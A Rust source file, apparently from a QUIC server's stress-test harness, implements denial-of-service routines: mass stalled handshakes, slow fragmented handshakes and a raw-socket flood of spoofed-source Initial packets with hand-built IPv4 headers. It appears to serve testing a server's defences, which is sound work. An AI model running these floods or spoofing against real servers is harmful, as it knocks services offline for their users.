//! Attacks that need no certificate: handshakes that fail, never go on or come in crumbs, and first packets from
//! addresses that are not the sender's.

use std::net::{Ipv4Addr, SocketAddr};
use std::sync::Arc;
use std::time::Duration;

use socket2::{Domain, Protocol, Socket, Type};
use tokio::net::UdpSocket;
use tokio::task::JoinSet;
use tokio::time::{Instant, MissedTickBehavior, interval, timeout_at};

use super::{AttackContext, ms};
use crate::hostile::first_packet::{InitialSealer, client_hello, crumbs};

/// See [`super::ALL`].
pub async fn handshakes(means: AttackContext) {
    let mut running = JoinSet::new();
    for nth in 3..20 {
        let enemy = Arc::new(means.enemy.at(Ipv4Addr::new(172, 18, 3, nth).into()));
        for n in 0..means.pace.of(64) {
            let (means, enemy) = (means.clone(), Arc::clone(&enemy));
            running.spawn(async move {
                while means.pace.goes_on() {
                    // Most hold a place for as long as they can; the others cost a signature.
                    let knocked = timeout_at(means.pace.until, enemy.knock(n % 8 != 0)).await;
                    means.counts.add("knocks", 1);
                    if let Ok(Ok(conn)) = knocked {
                        conn.closed().await;
                    }
                    ms(10).await;
                }
            });
        }
    }
    running.join_all().await;
}

/// A handshake in crumbs goes on for so long: a little less than it may take.
const CRUMBS_TIMEOUT: Duration = Duration::from_millis(4500);

/// See [`super::ALL`].
pub async fn handshake_crumbs(means: AttackContext) {
    let mut running = JoinSet::new();
    for host in 3..20 {
        for task in 0..means.pace.of(2) as u64 {
            // Some go on for as long as they can, and others begin anew at once.
            let packets = if task.is_multiple_of(2) { usize::MAX } else { 3 };
            running.spawn(crumble(means.clone(), [172, 18, 3, host].into(), task, packets));
        }
    }
    running.join_all().await;
}

/// Sends one handshake after the other, each in crumbs and so many packets at most.
async fn crumble(means: AttackContext, from: Ipv4Addr, task: u64, packets: usize) {
    let mut client = u64::from(from.to_bits()) << 32 | task << 24;
    while means.pace.goes_on() {
        let Ok(socket) = UdpSocket::bind((from, 0)).await else { return };
        let (began, mut nth) = (Instant::now(), 0);
        client += 1;
        let mut sealer = InitialSealer::new(client);
        means.counts.add("handshakes", 1);
        for _ in 0..packets {
            let datagram = sealer.seal(&crumbs(&mut nth, sealer.room()));
            if socket.send_to(&datagram, means.enemy.target).await.is_ok() {
                means.counts.add("packets", 1);
            }
            if began.elapsed() > CRUMBS_TIMEOUT || !means.pace.goes_on() {
                break;
            }
            tokio::task::yield_now().await;
        }
        ms(5).await;
    }
}

/// First packets a second, at full size.
const RATE: usize = 20_000;

/// See [`super::ALL`].
pub async fn spoofed_initials(means: AttackContext) {
    let Ok(socket) = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(255))) else {
        return means.counts.add("no raw sockets", 1);
    };
    let hello = client_hello();
    let SocketAddr::V4(target) = means.enemy.target else { return };
    let mut beat = interval(Duration::from_millis(5));
    beat.set_missed_tick_behavior(MissedTickBehavior::Skip);
    let mut nth = 0_u64;
    while means.pace.goes_on() {
        beat.tick().await;
        for _ in 0..means.pace.of(RATE) / 200 {
            nth += 1;
            let datagram = InitialSealer::new(nth).seal(&hello);
            // 65,000 addresses, each with some ports.
            let [.., a, b] = (nth as u32).to_be_bytes();
            let from = (Ipv4Addr::new(10, 66, a, b), 1024 + (nth >> 16) as u16);
            let packet = ip(from, (*target.ip(), target.port()), &datagram);
            let sent = socket.send_to(&packet, &SocketAddr::from(target).into());
            means.counts.add(if sent.is_ok() { "initials" } else { "initials not sent" }, 1);
            means.counts.add("bytes", datagram.len() as u64);
        }
    }
}

/// A whole IPv4 packet; the kernel adds its length and checksum.
fn ip(from: (Ipv4Addr, u16), to: (Ipv4Addr, u16), payload: &[u8]) -> Vec<u8> {
    const UDP: u8 = 17;
    let len = (8 + payload.len()) as u16;
    let mut packet = vec![0x45, 0, 0, 0, 0, 0, 0, 0, 64, UDP, 0, 0];
    packet.extend(from.0.octets());
    packet.extend(to.0.octets());
    packet.extend([from.1, to.1, len, 0].map(u16::to_be_bytes).concat());
    packet.extend(payload);
    packet
}
